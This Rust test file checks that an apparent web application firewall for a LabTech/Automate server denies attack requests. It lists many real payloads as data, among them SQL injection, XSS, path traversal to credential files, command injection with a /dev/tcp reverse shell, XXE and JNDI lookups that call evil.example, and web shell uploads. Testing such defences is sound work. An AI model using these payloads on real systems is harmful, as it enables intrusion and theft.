//! Attacks of every category are denied, wherever they are and however they are encoded.

use crate::sample::{Sample, agent, check_denied, encode, form, get, json, post, query};

const SOAP: &str = "/LabTech/ControlCenter.asmx";
const XML: &str = "text/xml; charset=utf-8";

fn all(samples: &[Sample], reason: &str) {
    for sample in samples {
        check_denied(sample, reason);
    }
}

#[test]
fn sql_injection() {
    let values = [
        "' or 1=1--",
        "1' OR '1'='1",
        "x') or ('a'='a",
        "\" or \"\"=\"",
        "admin'--",
        "admin' #",
        "1 or 1=1",
        "1) and 1=2 union select null,null--",
        "1 UNION/**/ALL/**/SELECT 1,2,3",
        "1/*!50000UNION*/ /*!50000SELECT*/ 1",
        "-1 union select username,password from users",
        "1; drop table computers",
        "1;exec master..xp_cmdshell 'dir'",
        "1'; waitfor delay '0:0:5'--",
        "1 and sleep(5)",
        "' AND SLEEP(5)--",
        "1 and (select * from (select(sleep(5)))a)",
        "(select(0)from(select(sleep(15)))v)",
        "1 and extractvalue(1,concat(0x7e,version()))",
        "1 and ascii(substring((select database()),1,1))>64",
        "x' and 1 in (select table_name from information_schema.tables)--",
        "1 into outfile 'c:/x.aspx'",
        "'||(select version())||'",
        "select name from users where id=1",
        "1 and 'a' like 'a'",
        "1 || 1=1",
        "' or true#",
        "char(65)+char(66)",
        "tablename;update computers set name=1",
        "1\u{a0}or\u{a0}1=1",
    ];
    for value in values {
        check_denied(&query(value), "sql_injection");
        check_denied(&form("/WCC2/Search/search", &format!("q={}", encode(value))), "sql_injection");
        check_denied(&json("/x", &serde_json::json!({ "q": [value] }).to_string()), "sql_injection");
        check_denied(&get("/").with("cookie", &format!("a=b; id={}", encode(value))), "sql_injection");
    }
    all(
        &[
            get(&format!("/LabTech/agent.aspx?31={}", encode("' AND SLEEP(5)--"))),
            get("/LabTech/agent.aspx?31=%2527%2520or%25201%253d1--"),
            get("/LabTech/agent.aspx?31=%u0027%20or%201=1"),
            get("/LabTech/agent.aspx?31='+AND+SLEEP(5)--"),
            form("/LabTech/agent.aspx?31=' AND SLEEP(5)--", "a=b"),
            form("/LabTech/agent.aspx?31=", &format!("{}=1", encode("tablename;update computers set name"))),
            form(&format!("/LabTech/agent.aspx?{}=1", encode("tablename;update x")), "a=b"),
            get("/LabTech/Deployment.aspx?InstallerToken=x'%20or%201=1"),
            get("/users/1'%20or%20'1'='1"),
            get("/x?user[$ne]=1"),
            agent("Mozilla/5.0 (select(0)from(select(sleep(15)))v)"),
            agent("' or 1=1--"),
            post("/x", XML, "<a><id>1' or '1'='1</id></a>"),
            post("/x", XML, "<a id=\"1 union select 1\"/>"),
            post(
                "/x",
                "multipart/form-data; boundary=b",
                "--b\r\nContent-Disposition: form-data; name=\"id\"\r\n\r\n1 or 1=1\r\n--b--",
            ),
            post("/x", "text/plain", "id=1 or 1=1"),
            json("/x", r#""1\u0027 or 1=1""#),
            json("/x", r#"{"id; drop table x":1}"#),
            post("/x", "", "id=1+or+1%3d1"),
            get("/cwa/api/v1/computers?condition=1%20union%20select%20password%20from%20users"),
        ],
        "sql_injection",
    );
}

#[test]
fn cross_site_scripting() {
    let values = [
        "<script>alert(1)</script>",
        "<ScRiPt src=//evil.example/x.js>",
        "<img src=x onerror=alert(1)>",
        "<svg/onload=alert(1)>",
        "\" onmouseover=\"alert(1)",
        "javascript:alert(1)",
        "java\tscript:alert(1)",
        "data:text/html;base64,PHNjcmlwdD4=",
        "<iframe src=//evil.example>",
        "'-alert(1)-'",
        "document.cookie",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "<a href=&#x6a;avascript:alert(1)>",
        "\u{ff1c}script\u{ff1e}",
        "/*<script>*/alert(1)",
        "\"><img src=x>",
        "{\"a\":\"\\u003cscript\\u003e\"}",
    ];
    for value in values {
        check_denied(&query(value), "xss");
        check_denied(&form("/x", &format!("a=1&q={}", encode(value))), "xss");
    }
    all(
        &[
            get("/x?q=%253Cscript%253Ealert(1)"),
            get("/x?q=%u003cscript%u003e"),
            get("/automate/<script>x"),
            get("/").with("referer", "https://evil.example/<script>alert(1)</script>"),
            json("/x", r#"{"a":"\u003cscript\u003e"}"#),
            get("/x?__proto__[a]=b"),
            get("/x?__proto__.a=b"),
            json("/x", r#"{"__proto__":{"a":1}}"#),
            query("<button formaction=//evil.example>"),
        ],
        "xss",
    );
}

#[test]
fn path_traversal() {
    all(
        &[
            get("/LabTech/Transfer/..%2f..%2fweb.config"),
            get("/LabTech/Transfer/..%255c..%255cweb.config"),
            get("/LabTech/Transfer/%2e%2e/%2e%2e/web.config"),
            get("/LabTech/Transfer/../../../windows/win.ini"),
            get("/LabTech/Transfer/..;/..;/x"),
            get("/x?file=../../etc/passwd"),
            get("/x?file=..%2f..%2f..%2fboot.ini"),
            get("/x?file=....//....//x"),
            get("/x?file=c%3a%5cwindows%5csystem32%5cconfig%5csam"),
            get("/x?file=file:///c:/x"),
            get("/x?file=php://filter/read=x"),
            get("/x?file=web.config"),
            get("/.git/config"),
            get("/.env"),
            get("/web.config"),
            json("/x", r#"{"file":"..\\..\\x"}"#),
            get("/").with("cookie", "lang=../../../x"),
        ],
        "path_traversal",
    );
    check_denied(&get("/LabTech/Transfer/..%c0%afweb.config"), "path_traversal");
}

#[test]
fn command_injection() {
    let values = [
        "127.0.0.1; whoami",
        "127.0.0.1 | cat /etc/hosts2",
        "x & ipconfig",
        "x && dir",
        "x;id",
        "x;w'h'o'ami",
        "x | C^u^r^l http://evil.example",
        "`id`",
        "$(whoami)",
        "$(sleep 5)",
        "x;/bin/cat x",
        "x;${IFS}y",
        "x;ping -n 5 127.0.0.1",
        "() { :;}; echo x",
        "{{7*7}}",
        "${7*7}",
        "<%= 7*7 %>",
        "<?php system($_GET[0]);",
        "__import__('os').system('x')",
        "%{(#_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}",
        "class.module.classLoader.resources",
        "bash -i >& /dev/tcp/10.0.0.1/1 0>&1",
    ];
    for value in values {
        check_denied(&query(value), "command_injection");
        check_denied(&json("/x", &serde_json::json!({ "host": value }).to_string()), "command_injection");
    }
    all(
        &[
            query("powershell -enc AAAA"),
            query("x\nwhoami"),
            query("cmd.exe /c dir"),
            agent("() { :; }; /bin/bash -c id"),
            get("/").with("x-forwarded-host", "() { :; }; ping"),
        ],
        "command_injection",
    );
}

fn utf16(text: &str, encode: fn(u16) -> [u8; 2]) -> Vec<u8> {
    std::iter::once(0xfeff).chain(text.encode_utf16()).flat_map(encode).collect()
}

#[test]
fn xml_external_entities() {
    let plain = "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY e SYSTEM \"file:///c:/windows/win.ini\">]><r>&e;</r>";
    let parameter = "<!DOCTYPE r [<!ENTITY % p SYSTEM \"http://evil.example/x.dtd\"> %p;]><r/>";
    for body in [plain, parameter, "<!DOCTYPE r SYSTEM \"http://evil.example/x.dtd\"><r/>", "<r/><!-- --><!DOCTYPE r>"] {
        let copies = [body.as_bytes().to_vec(), utf16(body, u16::to_le_bytes), utf16(body, u16::to_be_bytes)];
        for copy in copies {
            all(
                &[post(SOAP, XML, &copy), post("/x", "application/xml", &copy), post("/LabTech/agent.aspx", "text/xml", &copy)],
                "xxe",
            );
        }
    }
    all(
        &[
            post(SOAP, "application/octet-stream", plain),
            post(SOAP, "application/octet-stream", utf16(plain, u16::to_le_bytes)),
            post(SOAP, "", plain),
            post(SOAP, "text/plain", plain),
            form(SOAP, plain),
            post(SOAP, XML, "<?xml version='1.0' encoding='UTF-7'?><r/>"),
            post(SOAP, XML, "<r xmlns:xi='http://www.w3.org/2001/XInclude'><xi:include href='file:///c:/x'/></r>"),
            query("<!DOCTYPE r [<!ENTITY e SYSTEM 'x'>]>"),
        ],
        "xxe",
    );
}

#[test]
fn jndi_lookups() {
    let values = [
        "${jndi:ldap://evil.example/a}",
        "${${lower:j}ndi:ldap://evil.example/a}",
        "${${::-j}${::-n}${::-d}${::-i}:rmi://evil.example}",
        "${${env:NaN:-j}ndi${env:NaN:-:}ldap://evil.example}",
        "${script:js:1}",
    ];
    for value in values {
        let samples = [query(value), agent(value), get("/").with("accept", value), get("/").with("x-api-version", value)];
        all(&samples, "jndi_injection");
        check_denied(&post("/x", "application/octet-stream", value), "jndi_injection");
        check_denied(&post(SOAP, XML, format!("<a>{value}</a>")), "jndi_injection");
    }
    check_denied(&get("/x?a=%24%7Bjndi%3Aldap%3A%2F%2Fx%7D"), "jndi_injection");
}

#[test]
fn scanners() {
    all(
        &[
            agent("sqlmap/1.8.2#stable (https://sqlmap.org)"),
            agent("Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)"),
            agent("Mozilla/5.0 (compatible; Nuclei - Open-source project (github.com/projectdiscovery/nuclei))"),
            agent("gobuster/3.6"),
            agent("Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)"),
            agent("NUCLEI"),
            get("/nmaplowercheck1700000000"),
            query("http://abc123.oast.fun/x"),
            get("/").with("referer", "https://x.oast.fun/?(a)"),
        ],
        "scanner",
    );
}

#[test]
fn protocol_violations() {
    let many: String = (0..300).map(|number| format!("a{number}=1&")).collect();
    all(
        &[
            get("/x%00.txt"),
            get("/x?a=b%00c"),
            get("/x?a=%c0%bcb"),
            Sample { method: "TRACE", ..get("/") },
            get("/x")
                .with("range", "bytes=0-1,2-3,4-5,6-7,8-9,10-11,12-13,14-15,16-17,18-19,20-21")
                .with("contentlength", "1")
                .with("content-length", "2"),
            post("/x", "text/xml; charset=utf-7", "<r/>"),
            post(&format!("/x?{many}"), "multipart/form-data", "x"),
        ],
        "protocol_violation",
    );
}

#[test]
fn application_probes() {
    let viewstate = |length| format!("__VIEWSTATE={}", "A".repeat(length));
    let upload = |name: &str| {
        let body = format!("--b\r\nContent-Disposition: form-data; name=\"f\"; filename=\"{name}\"\r\n\r\nx\r\n--b--");
        post("/App_Extensions/upload", "multipart/form-data; boundary=b", body)
    };
    all(
        &[
            get("/SetupWizard.aspx/abc"),
            get("/setupwizard.aspx/"),
            get("/SetupWizard.aspx%2fabc"),
            get("/SetupWizard/"),
            get("/SetupWizard.aspx"),
            get("\\SetupWizard.aspx"),
            get("/x/../SetupWizard.aspx"),
            get("/%53etupWizard.aspx"),
            get("/LabTech/Deployment.aspx"),
            get("/labtech/deployment.ASPX?"),
            get("/LabTech/Deployment.aspx?InstallerToken=x"),
            get(
                "/LabTech/Deployment.aspx?InstallerToken=0123456789abcdef0123456789abcdef&installertoken=0123456789abcdef0123456789abcdef",
            ),
            form("/Login.aspx", &format!("__VIEWSTATE=AAEAAAD/////AQAAAA&{}", viewstate(10))),
            form("/Login.aspx?__VIEWSTATE=x&b=%zz", &viewstate(200_000)),
            json("/x", r#"{"$type":"System.Windows.Data.ObjectDataProvider, PresentationFramework"}"#),
            get("/App_Themes/cmd.aspx"),
            get("/App_Extensions/0a1b/x.aspx"),
            get("/web.aspx::$DATA"),
            get("/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php"),
            get("/trace.axd"),
            get("/x").with("range", "bytes=0-18446744073709551615"),
            upload("shell.aspx"),
            upload("x.ashx."),
            upload("..\\x.txt"),
        ],
        "application_probe",
    );
    check_denied(&upload("../../App_Web/x.txt"), "path_traversal");
    check_denied(&query("http://169.254.169.254/latest/meta-data/"), "server_side_request");
}
